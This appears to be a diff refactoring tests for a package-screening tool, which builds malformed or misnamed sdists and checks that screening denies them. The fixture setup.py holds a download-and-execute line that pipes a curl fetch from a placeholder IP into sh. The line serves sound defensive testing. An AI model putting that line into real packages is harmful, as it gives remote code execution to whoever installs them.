@@ -9,16 +9,16 @@ from __future__ import annotations
 
 import gzip
 import hashlib
-import io
 import json
 import tarfile
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from tests.helpers import PackageIndex, assert_no_traceback
 from tests.helpers.cli import check_json
-from tests.helpers.dists import DistSpec, build_wheel
+from tests.helpers.dists import DistSpec, build_sdist, build_wheel
 from tests.helpers.policies import without_provenance_requirement
 from verify._cli import main
 
@@ -83,6 +83,28 @@ def test_an_index_file_that_is_no_archive_is_denied(
     assert "not a readable distribution" in reasons[0]["message"]
 
 
+#: setup.py of the sdists below: what screen must find once it reads them.
+SETUP = b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
+
+
+def _screen_denied(capsys: pytest.CaptureFixture[str], tmp_path: Path, path: Path) -> Any:
+    """Screen ``path`` offline: it must be denied, without a traceback; the JSON package."""
+    report = tmp_path / "report.json"
+    cache = tmp_path / "cache"
+    options = ["--offline", "--no-public-check", "--no-record", "--format", "json"]
+    code = main(["screen", str(path), *options, "--cache-dir", str(cache), "-o", str(report)])
+    captured = capsys.readouterr()
+    assert code == 1, captured
+    assert_no_traceback(captured.out + captured.err)
+    (package,) = json.loads(report.read_text())["packages"]
+    assert package["decision"] == "deny"
+    return package
+
+
+def _denied_rules(package: Any) -> set[str]:
+    return {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
+
+
 def test_screen_of_a_tar_sdist_without_its_end_marker_analyses_it_and_denies(
     capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
@@ -92,34 +114,14 @@ def test_screen_of_a_tar_sdist_without_its_end_marker_analyses_it_and_denies(
     stream = bytearray()
     for name, data in (
         ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
-        ("demo-1.0/setup.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+        ("demo-1.0/setup.py", SETUP),
     ):
         info = tarfile.TarInfo(name)
         info.size = len(data)
         stream += info.tobuf(format=tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)
     path = tmp_path / "demo-1.0.tar.gz"
     path.write_bytes(gzip.compress(bytes(stream)))
-    code = main(
-        [
-            "screen",
-            str(path),
-            "--offline",
-            "--no-public-check",
-            "--no-record",
-            "--format",
-            "json",
-            "--cache-dir",
-            str(tmp_path / "cache"),
-            "-o",
-            str(tmp_path / "report.json"),
-        ]
-    )
-    captured = capsys.readouterr()
-    assert code == 1, captured
-    assert_no_traceback(captured.out + captured.err)
-    (package,) = json.loads((tmp_path / "report.json").read_text())["packages"]
-    assert package["decision"] == "deny"
-    denied = {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
+    denied = _denied_rules(_screen_denied(capsys, tmp_path, path))
     assert "archive-unterminated" in denied
     # The content was read: what setup.py does is found, not only the archive's shape.
     assert denied & {"download-exec", "process-spawn"}, denied
@@ -130,38 +132,10 @@ def test_screen_of_an_sdist_with_an_invalid_name_names_it_by_its_metadata_and_de
 ) -> None:
     # pip installs "demo-1.0-py3-none-any.tar.gz" from a path or URL, named by its PKG-INFO:
     # screen reads it as such, reports what it does, and denies the name itself.
-    stream = io.BytesIO()
-    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
-        for name, data in (
-            ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
-            ("demo-1.0/setup.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
-        ):
-            info = tarfile.TarInfo(name)
-            info.size = len(data)
-            archive.addfile(info, io.BytesIO(data))
-    path = tmp_path / "demo-1.0-py3-none-any.tar.gz"
-    path.write_bytes(stream.getvalue())
-    report_path = tmp_path / "report.json"
-    code = main(
-        [
-            "screen",
-            str(path),
-            "--offline",
-            "--no-public-check",
-            "--no-record",
-            "--format",
-            "json",
-            "--cache-dir",
-            str(tmp_path / "cache"),
-            "-o",
-            str(report_path),
-        ]
-    )
-    captured = capsys.readouterr()
-    assert code == 1, captured
-    assert_no_traceback(captured.out + captured.err)
-    (package,) = json.loads(report_path.read_text())["packages"]
-    assert (package["name"], package["version"], package["decision"]) == ("demo", "1.0", "deny")
-    denied = {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
+    built = build_sdist(DistSpec("demo", "1.0", files={"setup.py": SETUP}), tmp_path / "sdist")
+    path = built.rename(tmp_path / "demo-1.0-py3-none-any.tar.gz")
+    package = _screen_denied(capsys, tmp_path, path)
+    assert (package["name"], package["version"]) == ("demo", "1.0")
+    denied = _denied_rules(package)
     assert "filename-invalid" in denied
     assert denied & {"download-exec", "process-spawn"}, denied
